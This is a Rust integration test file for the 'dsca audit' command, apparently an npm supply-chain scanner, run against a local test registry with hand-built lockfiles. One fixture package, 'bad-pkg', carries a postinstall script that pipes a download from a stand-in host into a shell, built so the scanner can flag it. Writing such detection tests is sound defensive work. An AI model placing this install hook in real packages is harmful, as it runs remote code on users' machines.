//! `dsca audit` end to end against the local test registry (offline, deterministic): a
//! package-lock.json v3 written by hand in npm's shape, pointing at the test registry.

mod common;

use common::{PUBLISHED, dsca};
use dsca_test::{
    PackageBuilder, Published, TempHome, TestRegistry, phase_records, sandbox_tests_enabled,
};
use serde_json::{Value, json};

fn publish(registry: &TestRegistry, package: PackageBuilder) -> Published {
    registry.publish_plain(package, PUBLISHED)
}

/// my-app -> web-lib -> bad-pkg (postinstall pipes a download into a shell);
/// my-app (dev) -> test-lib; `pinned` is locked with another hash than the registry's;
/// `elsewhere` resolves from a host that is not the registry.
struct Project {
    home: TempHome,
    registry: TestRegistry,
}

fn project() -> Project {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    let bad = publish(
        &registry,
        PackageBuilder::new("bad-pkg", "1.0.0")
            .script("postinstall", "curl -s http://198.51.100.7/x.sh | sh"),
    );
    let web = publish(
        &registry,
        PackageBuilder::new("web-lib", "2.0.0").dependency("bad-pkg", "^1.0.0"),
    );
    let test = publish(&registry, PackageBuilder::new("test-lib", "3.0.0"));
    let pinned = publish(&registry, PackageBuilder::new("pinned", "1.0.0"));
    let elsewhere = publish(&registry, PackageBuilder::new("elsewhere", "1.0.0"));
    let entry = |p: &Published, extra: Value| {
        let mut entry = json!({
            "version": p.version,
            "resolved": p.tarball_url,
            "integrity": p.integrity,
        });
        if let (Value::Object(entry), Value::Object(extra)) = (&mut entry, extra) {
            entry.extend(extra);
        }
        entry
    };
    let lock = json!({
        "name": "my-app",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": true,
        "packages": {
            "": {
                "name": "my-app",
                "version": "1.0.0",
                "dependencies": { "web-lib": "^2.0.0", "pinned": "1.0.0", "elsewhere": "1.0.0" },
                "devDependencies": { "test-lib": "^3.0.0" }
            },
            "node_modules/bad-pkg": entry(&bad, json!({})),
            "node_modules/web-lib": entry(&web, json!({ "dependencies": { "bad-pkg": "^1.0.0" } })),
            "node_modules/test-lib": entry(&test, json!({ "dev": true })),
            "node_modules/pinned": entry(&pinned, json!({
                "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
            })),
            "node_modules/elsewhere": entry(&elsewhere, json!({
                "resolved": "https://cdn.example.invalid/elsewhere-1.0.0.tgz"
            })),
        }
    });
    let dir = home.project_dir();
    std::fs::write(
        dir.join("package-lock.json"),
        serde_json::to_string_pretty(&lock).unwrap(),
    )
    .unwrap();
    home.write_project_npmrc(&format!("registry={}\n", registry.url()));
    Project { home, registry }
}

fn rules(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect()
}

fn by_name<'a>(reports: &'a [Value], name: &str) -> &'a Value {
    reports
        .iter()
        .find(|r| r["package"]["name"] == name)
        .unwrap_or_else(|| panic!("no report for {name}"))
}

#[test]
fn audits_every_package_with_paths_and_lockfile_checks() {
    let p = project();
    let out = dsca(&p.home)
        .args(["audit", "--format", "json"])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let reports: Vec<Value> = serde_json::from_str(&stdout).unwrap();
    assert_eq!(reports.len(), 5);

    let bad = by_name(&reports, "bad-pkg");
    assert!(rules(bad).contains(&"DSCA102".to_string()), "{bad}");
    assert_eq!(
        bad["dependency"]["paths"],
        json!([["my-app", "web-lib", "bad-pkg"]])
    );
    assert_eq!(bad["dependency"]["direct"], false);
    assert_eq!(bad["dependency"]["dev"], false);

    let test = by_name(&reports, "test-lib");
    assert_eq!(test["dependency"]["direct"], true);
    assert_eq!(test["dependency"]["dev"], true);
    assert!(rules(test).is_empty(), "{test}");

    assert_eq!(rules(by_name(&reports, "pinned")), ["DSCA951"]);
    assert_eq!(rules(by_name(&reports, "elsewhere")), ["DSCA952"]);
    assert!(rules(by_name(&reports, "web-lib")).is_empty());

    // The same pipeline and cache as `dsca scan`: every tarball fetched once.
    assert_eq!(p.registry.count_requests("/bad-pkg/-/"), 1);
}

#[test]
fn dynamic_runs_only_the_packages_with_install_scripts() {
    if !sandbox_tests_enabled("dynamic_runs_only_the_packages_with_install_scripts") {
        return;
    }
    let p = project();
    let out = dsca(&p.home)
        .args(["audit", "--dynamic", "--format", "json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let reports: Vec<Value> =
        serde_json::from_str(&String::from_utf8(out.stdout).unwrap()).unwrap();
    let bad = by_name(&reports, "bad-pkg");
    let run = &bad["dynamic"];
    assert_eq!(run["phases"][0]["status"], "completed", "{bad:#}");
    let connections = phase_records(run, "/connections");
    assert!(
        connections
            .iter()
            .any(|c| c["destination"] == "198.51.100.7" && c["port"] == 80),
        "{run:#}"
    );
    let found = rules(bad);
    for rule in ["DSCA1002", "DSCA1005"] {
        assert!(
            found.contains(&rule.to_string()),
            "{rule} missing: {found:?}"
        );
    }
    for quiet in ["web-lib", "test-lib", "pinned"] {
        assert!(
            by_name(&reports, quiet).get("dynamic").is_none(),
            "{quiet} has no install script and must not run"
        );
    }
}

#[test]
fn text_shows_the_path_and_fail_on_sets_the_exit_code() {
    let p = project();
    let out = dsca(&p.home)
        .args([
            "audit",
            "package-lock.json",
            "--fail-on",
            "high",
            "--color",
            "never",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("package-lock.json (npm): 5 packages scanned, 3 with findings or errors"),
        "{stdout}"
    );
    assert!(
        stdout.contains("path:         my-app > web-lib > bad-pkg"),
        "{stdout}"
    );
    assert!(
        stdout.contains("dependency:   transitive, prod"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("test-lib"),
        "clean packages are not listed: {stdout}"
    );
}

#[test]
fn policy_ignores_and_overrides() {
    let p = project();
    std::fs::write(
        p.home.project_dir().join("dsca.toml"),
        "fail-on = \"medium\"\n\n[rules]\nDSCA952 = \"off\"\n\n[[ignore]]\npackage = \"bad-pkg\"\nreason = \"reviewed in SEC-1\"\n\n[[allow]]\nrule = \"DSCA951\"\nreason = \"mirror rebuilds tarballs\"\nexpires = 2099-01-01\n",
    )
    .unwrap();
    let out = dsca(&p.home)
        .args(["audit", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let reports: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(reports.len(), 4, "bad-pkg is ignored whole");
    assert!(rules(by_name(&reports, "elsewhere")).is_empty());
    let pinned = by_name(&reports, "pinned");
    assert_eq!(pinned["findings"][0]["severity"], "info");

    std::fs::write(
        p.home.project_dir().join("dsca.toml"),
        "fail-on = \"high\"\nfial = 2\n",
    )
    .unwrap();
    let out = dsca(&p.home).arg("audit").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.starts_with("dsca: error: ")
            && stderr.contains("dsca.toml:2:1: unknown field `fial`"),
        "{stderr}"
    );
}

#[test]
fn diff_reports_only_added_or_changed_packages() {
    let p = project();
    let dir = p.home.project_dir();
    let mut base: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("package-lock.json")).unwrap())
            .unwrap();
    let packages = base["packages"].as_object_mut().unwrap();
    packages.remove("node_modules/bad-pkg");
    packages.remove("node_modules/web-lib");
    std::fs::write(dir.join("base-lock.json"), base.to_string()).unwrap();
    let out = dsca(&p.home)
        .args(["audit", "--diff", "base-lock.json", "--format", "json"])
        .output()
        .unwrap();
    let reports: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let names: Vec<&str> = reports
        .iter()
        .map(|r| r["package"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["bad-pkg", "web-lib"]);
}

#[test]
fn malformed_lockfile_and_missing_lockfile_are_one_line_errors() {
    let home = TempHome::new();
    let out = dsca(&home).arg("audit").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("no lockfile here (looked for npm-shrinkwrap.json, package-lock.json"),
        "{stderr}"
    );

    std::fs::write(
        home.project_dir().join("yarn.lock"),
        "# yarn lockfile v1\n\nms@^2:\n  version \"2.1\n",
    )
    .unwrap();
    let out = dsca(&home).arg("audit").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("yarn.lock:4:11: unterminated string (truncated?)"),
        "{stderr}"
    );
}

#[test]
fn policy_init_writes_a_valid_starting_file() {
    let home = TempHome::new();
    let out = dsca(&home).args(["policy", "init"]).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    let text = std::fs::read_to_string(home.project_dir().join("dsca.toml")).unwrap();
    assert!(text.contains("fail-on = \"high\""));
    // Never over an existing file.
    assert_eq!(
        dsca(&home)
            .args(["policy", "init"])
            .output()
            .unwrap()
            .status
            .code(),
        Some(2)
    );
}

#[test]
fn markdown_and_sarif_formats() {
    let p = project();
    let out = dsca(&p.home)
        .args(["audit", "--format", "markdown"])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        stdout.starts_with("### dsca audit of ./package-lock.json\n"),
        "{stdout}"
    );
    assert!(
        stdout.contains("5 packages scanned, 3 with findings or errors."),
        "{stdout}"
    );
    assert!(
        stdout.contains("| 🔴 malicious | bad-pkg&#64;1.0.0 | my-app &gt; web-lib &gt; bad-pkg (transitive, prod) |"),
        "{stdout}"
    );
    let out = dsca(&p.home)
        .args(["audit", "--format", "sarif"])
        .output()
        .unwrap();
    let sarif: Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids: Vec<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["ruleId"].as_str().unwrap())
        .collect();
    assert!(
        ids.contains(&"DSCA951") && ids.contains(&"DSCA952"),
        "{ids:?}"
    );
}
